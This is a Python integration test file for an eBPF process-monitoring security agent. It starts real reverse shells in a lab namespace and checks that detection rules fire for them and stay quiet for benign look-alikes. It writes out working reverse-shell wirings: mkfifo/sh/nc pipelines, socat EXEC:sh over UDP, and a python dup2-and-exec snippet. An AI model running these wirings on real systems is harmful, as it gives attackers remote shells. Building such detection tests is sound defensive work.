"""Reverse shells however they are wired, against the real kernel: the process probe
(proc.bpf.o) and the /proc correlation (agent.sources.stdio) on real shells that really
execute commands sent by a listener in the lab's attacker namespace; every wiring runs
in the victim namespace inside a throw-away cgroup (how its events are told apart from
the rest of the host, and how everything it started is killed afterwards), under
`timeout`. The breach rules judge the events.

Detected: bash's /dev/tcp, python's dup2 + pty.spawn, `mkfifo; cat f | sh -i | nc > f`,
socat EXEC (a unix socketpair), a pty relay without dup2. Quiet: a network client piped
into sh whose output goes to a plain process (`curl | sh`), the same pty relay run by an
executable listed in breach.remote_access (sshd's shape), socket activation by a listed
service manager, tmux, a plain pipeline.
"""
from __future__ import annotations

import asyncio
import contextlib
import shutil
import socket
import sys
import time
from pathlib import Path

import pytest

from swarmlab.breachlab import (BASH_TCP, FIFO, FIFO_RELAYED, PTY_RELAY, PY_PTY, SOCAT,
                             ShellListener, agent_config, cgroup_path, python_wiring,
                             reverse_shell, run_wiring, scoped_rules, throwaway_cgroup)
from agent.enforce.cgroup import cgroup2_mount
from agent.config import REMOTE_ACCESS, SERVICE_MANAGERS, Breach, Config, Probes
from agent.detect.rules import Detector, load_rules
from swarmlab.lab import Lab, wait_for as wait_for_state
from agent.sources import stdio
from tests.conftest import skip_unsupported
from tests.integration.test_proc_identity import btrfs_image
from tests.integration.test_proc_probe import probe, wait_for  # noqa: F401 (fixture)

pytestmark = pytest.mark.privileged
PY = sys.executable


@pytest.fixture(scope="module")
def fakes(tmp_path_factory) -> dict[str, Path]:
    """Copies of python (own inodes) listed as a remote-access daemon and a service manager."""
    d = tmp_path_factory.mktemp("revshell")
    out = {}
    for name in ("fake-sshd", "fake-inetd"):
        shutil.copy2(Path(PY).resolve(), d / name)
        out[name] = d / name
    # listed under another name (as /sbin/sshd is /usr/sbin/sshd): the inode decides
    (d / "sshd-link").symlink_to(d / "fake-sshd")
    out["sshd-link"] = d / "sshd-link"
    yield out
    shutil.rmtree(d, ignore_errors=True)


@pytest.fixture(scope="module")
def cfg(fakes, tmp_path_factory) -> Config:
    return Config(state_dir=str(tmp_path_factory.mktemp("state")), breach=Breach(
        remote_access=(*REMOTE_ACCESS, str(fakes["sshd-link"])),
        service_managers=(*SERVICE_MANAGERS, str(fakes["fake-inetd"]))),
        # its own registry: a host agent (or another test run) may own this namespace
        probes=Probes(process_owners=str(tmp_path_factory.mktemp("owners") / "owners")))


@pytest.fixture(scope="module")
def detector(cfg) -> Detector:
    return Detector(load_rules(), cfg)


@pytest.fixture(scope="module")
def lab():
    for tool in ("nc", "socat"):
        if shutil.which(tool) is None:
            skip_unsupported(f"no {tool} (install.sh --test installs it)")
    with Lab() as lab:
        yield lab


def events_of(probe, cg: str, kind: str, pred=lambda e: True, count: int = 1,
              timeout_s: float = 10.0) -> list:
    return wait_for(probe, lambda e: e.kind == kind and e.fields.get("cgroup") == cg and pred(e),
                    count=count, timeout_s=timeout_s)


def fired(detector: Detector, events) -> set[str]:
    return {f.rule for e in events for f in detector.evaluate(e, e.mono_ns)}


def shell_network(probe, cg: str, pred=lambda e: True) -> list:
    """The derived events of the shells the wiring exec'd with piped stdio (those `pred`
    takes: waiting for the one a test is about, not the first of the pipeline's)."""
    shells = events_of(probe, cg, "proc.stdio", pred, timeout_s=3.0)
    derived = [stdio.correlate(e, exes=probe.exes) for e in shells]
    return [d for d in derived if d is not None]


def test_bash_dev_tcp(probe, detector, lab):
    with reverse_shell(lab, BASH_TCP) as (cg, _):
        execs = events_of(probe, cg, "proc.exec", lambda e: e.fields["argv"] == ["bash", "-i"])
        dups = events_of(probe, cg, "proc.stdio_dup", count=2, timeout_s=1.0)
    assert fired(detector, execs) == {"breach.reverse_shell@2"}
    # `>&` puts the socket on fd 1 (one event), `2>&1` and `0>&1` copy it among 0-2 (none);
    # whatever the shell's rc files run afterwards is the attacker's session too
    mine = [d for d in dups if d.fields["pid"] == execs[0].fields["pid"]]
    assert [(d.fields["newfd"], d.fields["syscall"]) for d in mine] == [(1, "dup2")]
    assert dups[0].fields["remote"].startswith(lab.addr("attacker") + ":")
    assert fired(detector, dups) == {"breach.socket_dup@1"}


def test_python_dup2_and_pty_spawn(probe, detector, lab):
    with reverse_shell(lab, *python_wiring(PY_PTY)) as (cg, listener):
        [net] = shell_network(probe, cg)
        dups = events_of(probe, cg, "proc.stdio_dup", count=2, timeout_s=1.0)
    # one event when the socket arrives on stdio; dup2 onto 1 and 2 then copies stdio
    assert [d.fields["newfd"] for d in dups] == [0]
    assert {d.fields["exe"] for d in dups} == {str(Path(PY).resolve())}
    assert dups[0].fields["remote"] == f"{listener.addr}:{listener.port}"
    assert fired(detector, dups) == {"breach.socket_dup@1"}
    f = net.fields
    assert (f["stdin"], f["input_network"], f["output_network"]) == ("pty", True, True)
    assert f["input_peer_exe"] == str(Path(PY).resolve()) and f["input_hops"] == 0
    assert (f["remote"], f["inbound"]) == (f"{listener.addr}:{listener.port}", False)
    assert fired(detector, [net]) == {"breach.stdio_network@2"}


# the classic, and the same with relays between (cat | cat): followed up to MAX_HOPS
@pytest.mark.parametrize("script,hops", [(FIFO, (1, 0)), (FIFO_RELAYED, (2, 1))],
                         ids=["mkfifo", "mkfifo-relayed"])
def test_mkfifo_sh_nc(probe, detector, lab, tmp_path, script, hops):
    with reverse_shell(lab, script, str(tmp_path / "f")) as (cg, listener):
        nets = shell_network(probe, cg, lambda e: e.fields.get("comm") == "sh")
    [net] = [n for n in nets if n.fields["comm"] == "sh"]
    f = net.fields
    assert (f["stdin"], f["stdout"], f["input_network"], f["output_network"]) == \
        ("pipe", "pipe", True, True)
    # input: cat reads the fifo nc writes (a relay); output: nc reads sh's pipe
    assert (f["input_peer_comm"], f["output_peer_comm"]) == ("nc", "nc")
    assert (f["input_hops"], f["output_hops"]) == hops
    assert set(f["streams"]) == {"stdin", "stdout", "stderr"}
    assert f["remote"] == f"{listener.addr}:{listener.port}"
    assert fired(detector, nets) == {"breach.stdio_network@2"}


# a copy of dash under another name in the classic wiring: listed nowhere, but no system
# file (breach.system_exec_dirs), so the kernel sends its stdio as a shell's
COPIED_FIFO = 'rm -f "$2"; mkfifo "$2"; cat "$2" | "$3" -i 2>&1 | nc "$0" "$1" > "$2"'


def test_mkfifo_copied_shell_nc(probe, detector, lab, tmp_path):
    shutil.copy2(Path("/bin/sh").resolve(), tmp_path / "x")
    with reverse_shell(lab, COPIED_FIFO, str(tmp_path / "f"), str(tmp_path / "x")) as (cg, _):
        nets = shell_network(probe, cg, lambda e: e.fields.get("exe") == str(tmp_path / "x"))
    [net] = [n for n in nets if n.fields["exe"] == str(tmp_path / "x")]
    assert net.fields["exe_is"] == [] and (net.fields["input_peer_comm"],
                                           net.fields["output_peer_comm"]) == ("nc", "nc")
    assert fired(detector, [net]) == {"breach.stdio_network@2"}


def test_copied_program_in_a_plain_pipeline_is_quiet(probe, detector, lab, tmp_path):
    """A non-system executable between pipes is sent by the kernel (it could be a copied
    shell) and correlated: no network at either end, nothing fires. The system's own cat
    between pipes is not sent at all."""
    shutil.copy2(Path("/bin/cat").resolve(), tmp_path / "mycat")
    with throwaway_cgroup("swa-revsh") as d:
        proc = run_wiring(lab, d, 'printf "hi\\n" | "$0" | cat | cat > /dev/null; sleep 1',
                          str(tmp_path / "mycat"))
        try:
            sent = events_of(probe, cgroup_path(d), "proc.stdio",
                             lambda e: e.fields["exe"] == str(tmp_path / "mycat"), timeout_s=5)
            derived = [stdio.correlate(e, (0.05, 0.3), probe.exes) for e in sent]
            proc.wait(timeout=10)
            every = events_of(probe, cgroup_path(d), "proc.stdio", timeout_s=0)
        finally:
            proc.kill()
            proc.wait(timeout=10)
    assert len(sent) == 1 and sent[0].fields["stdin"] == "pipe"
    assert every == sent        # /usr/bin/cat between two pipes: a system file
    assert derived == [None] and fired(detector, sent) == set()


def test_probe_run_correlates_off_the_loop(probe, lab, tmp_path):
    """The agent's path: ProcProbe.run emits "proc.stdio_network" by itself."""
    got: list = []

    def drive() -> str:
        with reverse_shell(lab, FIFO, str(tmp_path / "f")) as (cg, _):
            deadline = time.monotonic() + 10
            while not [e for e in got if e.kind == "proc.stdio_network"
                       and e.fields["cgroup"] == cg]:
                assert time.monotonic() < deadline
                time.sleep(0.05)
            return cg

    async def main() -> str:
        task = asyncio.create_task(probe.run(got.append))
        try:
            return await asyncio.to_thread(drive)
        finally:
            task.cancel()

    cg = asyncio.run(main())
    [net] = [e for e in got if e.kind == "proc.stdio_network" and e.fields["cgroup"] == cg]
    assert net.source == "bpf.proc.stdio" and net.fields["output_network"]
    assert probe.status()["stdio_correlation"]["state"] == "loaded"


def test_socat_exec(probe, detector, lab):
    with reverse_shell(lab, SOCAT) as (cg, _):
        nets = shell_network(probe, cg)
    [net] = nets
    f = net.fields
    assert (f["stdin"], f["stdout"], f["input_peer_comm"]) == ("unix", "unix", "socat")
    assert fired(detector, nets) == {"breach.stdio_network@2"}


def test_pty_relay_without_dup(probe, detector, lab):
    with reverse_shell(lab, *python_wiring(PTY_RELAY)) as (cg, _):
        nets = shell_network(probe, cg)
        dups = events_of(probe, cg, "proc.stdio_dup", timeout_s=0.5)
    assert dups == [] and fired(detector, nets) == {"breach.stdio_network@2"}


# --- benign: quiet ---------------------------------------------------------------------

def test_sshd_shaped_relay_by_a_remote_access_executable(probe, detector, lab, fakes):
    sshd = fakes["fake-sshd"]
    with reverse_shell(lab, *python_wiring(PTY_RELAY, sshd)) as (cg, _):
        [net] = shell_network(probe, cg)
    f = net.fields
    assert (f["input_network"], f["output_network"], f["input_peer_exe"]) == \
        (True, True, str(fakes["sshd-link"]))
    assert fired(detector, [net]) == set()


SERVE = """
import os, socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.execv("/bin/sh", ["sh", "-c", "read line; exec 2>&1; echo PWNED-42 >&2; sleep 5"])
"""


@pytest.mark.parametrize("manager", ["fake-inetd", None])
def test_socket_handed_to_a_service_by_a_service_manager(probe, detector, lab, fakes, manager):
    exe = fakes[manager] if manager else PY
    with reverse_shell(lab, *python_wiring(SERVE, exe)) as (cg, _):
        dups = events_of(probe, cg, "proc.stdio_dup", count=2, timeout_s=1.0)
    # the service's own `2>&1` moves a socket already on stdio: no event
    assert [d.fields["newfd"] for d in dups] == [0]
    if manager:     # matched by the kernel's inode though the process has exec'd sh since
        assert {d.fields["exe"] for d in dups} == {str(exe)}
        assert fired(detector, dups) == set()
    else:           # unlisted, and no longer verifiable: still a breach
        assert {d.fields["exe"] for d in dups} <= {None, str(Path(PY).resolve())}
        assert fired(detector, dups) == {"breach.socket_dup@1"}


CLIENT = """
import socket, sys, time
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
sys.stdout.buffer.write(s.recv(4096))
sys.stdout.flush()
time.sleep(5)
"""


def test_network_into_sh_output_elsewhere(probe, detector, lab, tmp_path):
    """`curl ... | sh`: commands from the network, output to a plain process and a file."""
    out = tmp_path / "out"
    listener = ShellListener(lab)
    with throwaway_cgroup("swa-revsh") as d:
        script = f'{PY} -c "$2" "$0" "$1" | sh | cat > "$3"'
        proc = run_wiring(lab, d, script, listener.addr, str(listener.port), CLIENT, str(out))
        try:
            listener.conn, _ = listener.srv.accept()
            listener.conn.sendall(b"echo PWNED-$((6*7))\n")
            wait_for_file = time.monotonic() + 10
            while b"PWNED-42" not in (out.read_bytes() if out.exists() else b""):
                assert time.monotonic() < wait_for_file
                time.sleep(0.05)
            nets = shell_network(probe, cgroup_path(d))
        finally:
            listener.close()
            proc.kill()
            proc.wait(timeout=10)
    [net] = nets
    f = net.fields
    assert (f["input_network"], f["output_network"], f["input_hops"]) == (True, False, 0)
    assert fired(detector, nets) == set()


def test_tmux_and_plain_pipelines_are_quiet(probe, detector, lab, tmp_path):
    sock = f"swa-revsh-{time.monotonic_ns()}"
    with throwaway_cgroup("swa-revsh") as d:
        script = (f'tmux -L {sock} new-session -d "sh -i"; '
                  'printf "echo hi\\n" | sh | cat > /dev/null; sleep 3; '
                  f'tmux -L {sock} kill-server')
        proc = run_wiring(lab, d, script)
        try:
            for stdin in ("pty", "pipe"):
                events_of(probe, cgroup_path(d), "proc.stdio",
                          lambda e: e.fields["stdin"] == stdin, timeout_s=5)
            shells = events_of(probe, cgroup_path(d), "proc.stdio", timeout_s=0)
            derived = [stdio.correlate(e, (0.05, 0.3), probe.exes) for e in shells]
        finally:
            proc.kill()
            proc.wait(timeout=10)
    assert {e.fields["stdin"] for e in shells} >= {"pty", "pipe"}
    assert derived == [None] * len(shells)


def test_agent_isolates_a_mkfifo_reverse_shell(lab, tmp_path):
    """End to end through a real agent (`swarm-agent run` in the victim namespace, only
    breach.stdio_network among the breach rules): the wiring's cgroup is frozen and its
    connection cut, and the incident names the rule."""
    from swarmlab.scenario import AgentProcess
    from tests.integration.test_breach_e2e import DEADLINE_S, agent_stopped, cli, incident_of

    rules = scoped_rules(tmp_path / "rules", ("breach.stdio_network",))
    agent = AgentProcess(lab.victim, tmp_path, agent_config("swa-none", rules))
    agent.start()
    probes = {p["name"]: p["state"] for p in cli(agent, "status")["probes"]}
    if probes.get("handle_exec_stdio") != "loaded":
        agent.stop()
        skip_unsupported(f"the process probe does not run here: {probes}")
    with agent_stopped(agent), reverse_shell(lab, FIFO, str(tmp_path / "f")) as (cg, listener):
        cgdir = cgroup2_mount() / cg.lstrip("/")
        wait_for_state(lambda: "frozen 1" in (cgdir / "cgroup.events").read_text(), DEADLINE_S)
        inc = incident_of(agent, f"cgroup:{cg}")
        assert inc["rules"] == ["breach.stdio_network@2"] and inc["state"] == "escalated"
        (m,) = cli(agent, "mitigations")
        assert (m["kind"], m["target"]) == ("isolate_service", cg)
        listener.conn.sendall(b"echo AGAIN-$((1+1))\n")       # the shell no longer answers
        listener.conn.settimeout(1.0)
        got = b""
        with contextlib.suppress(TimeoutError, ConnectionError):
            while chunk := listener.conn.recv(4096):
                got += chunk
        assert b"AGAIN-2" not in got


def test_a_flood_of_shells_does_not_hide_the_next(probe, lab, tmp_path):
    """With every slot taken by long-lived piped shells, a new shell takes the place of
    one already looked at twice: the reverse shell after the flood is still found."""
    got: list = []
    flood = "for i in $(seq 12); do sleep 6 | sh -c 'sleep 6' | cat & done; wait"

    async def main() -> tuple[str, stdio.StdioCorrelator]:
        corr = stdio.StdioCorrelator(got.append, probe.exes, max_pending=4)

        async def pump() -> None:
            while True:
                for event in probe.poll():
                    corr.submit(event)
                await asyncio.sleep(0.02)

        def drive() -> str:
            with throwaway_cgroup("swa-revsh") as d:
                proc = run_wiring(lab, d, flood)
                try:
                    time.sleep(1.0)               # the flood's shells have been looked at twice
                    with reverse_shell(lab, FIFO, str(tmp_path / "f")) as (cg, _):
                        deadline = time.monotonic() + 10
                        while not [e for e in got if e.fields["cgroup"] == cg]:
                            assert time.monotonic() < deadline
                            time.sleep(0.05)
                        return cg
                finally:
                    proc.kill()
                    proc.wait(timeout=10)

        task = asyncio.create_task(pump())
        try:
            return await asyncio.to_thread(drive), corr
        finally:
            task.cancel()
            corr.close()

    cg, corr = asyncio.run(main())
    assert corr.cut_short > 0
    [net] = [e for e in got if e.fields["cgroup"] == cg and e.fields["comm"] == "sh"]
    assert net.fields["input_network"] and net.fields["output_network"]


# the shell reads the fifo itself: its identity is compared with what the kernel reported
FIFO_DIRECT = 'rm -f "$2"; mkfifo "$2"; sh -i < "$2" 2>&1 | nc "$0" "$1" > "$2"'


@pytest.fixture
def btrfs_dir(tmp_path):
    """A btrfs subvolume on a loop image (stat's st_dev there is not the kernel's)."""
    for mnt in btrfs_image(tmp_path):
        yield mnt / "sub"


def test_shell_reading_a_fifo_on_btrfs(probe, detector, lab, btrfs_dir):
    with reverse_shell(lab, FIFO_DIRECT, str(btrfs_dir / "f")) as (cg, listener):
        nets = shell_network(probe, cg, lambda e: e.fields.get("comm") == "sh")
    [net] = [n for n in nets if n.fields["comm"] == "sh"]
    f = net.fields
    assert (f["stdin"], f["input_network"], f["output_network"]) == ("fifo", True, True)
    assert f["input_peer_comm"] == "nc" and f["remote"] == f"{listener.addr}:{listener.port}"
    assert fired(detector, nets) == {"breach.stdio_network@2"}


def test_socat_udp_sendto(probe, detector, lab):
    """`socat UDP-SENDTO:HOST:PORT EXEC:sh`: socat's UDP socket is never connected
    (sendto), so /proc/net/udp shows no remote address; it still reaches anyone."""
    from swarmlab.lab import netns
    with netns(lab.attacker):
        srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        srv.bind((lab.addr("attacker"), 0))
    srv.settimeout(5)
    with throwaway_cgroup("swa-revsh") as d:
        proc = run_wiring(lab, d, 'exec socat UDP-SENDTO:"$0":"$1" EXEC:"sh -i",stderr',
                          lab.addr("attacker"), str(srv.getsockname()[1]))
        try:
            _, peer = srv.recvfrom(4096)          # the shell's prompt comes first
            srv.sendto(b"echo PWNED-$((6*7))\n", peer)
            got, deadline = b"", time.monotonic() + 5
            while b"PWNED-42" not in got and time.monotonic() < deadline:
                got += srv.recvfrom(4096)[0]
            assert b"PWNED-42" in got
            nets = shell_network(probe, cgroup_path(d))
        finally:
            proc.kill()
            proc.wait(timeout=10)
            srv.close()
    [net] = nets
    f = net.fields
    assert (f["stdin"], f["input_peer_comm"], f["remote"]) == ("unix", "socat", "*:0")
    assert fired(detector, nets) == {"breach.stdio_network@2"}
